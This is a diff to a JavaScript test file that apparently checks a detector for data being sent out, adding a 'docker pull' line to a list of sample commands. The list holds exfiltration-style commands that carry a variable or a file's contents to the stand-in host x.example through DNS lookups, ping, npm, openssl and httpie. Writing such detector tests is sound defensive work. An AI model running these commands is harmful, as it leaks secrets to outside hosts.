@@ -171,6 +171,7 @@ test('a text that a line computes is sent where it is part of an address, a head
     'host "$X.x.example"',
     'ping -c 1 "a$X.example"',
     'npm view "https://x.example/$X"',
+    'docker pull "x.example/a:$X"',
     'cat a.txt | openssl s_client -connect x.example:443',
     'openssl s_client -connect x.example:443 <<< "$X"',
     'cat a.txt | http https://x.example',
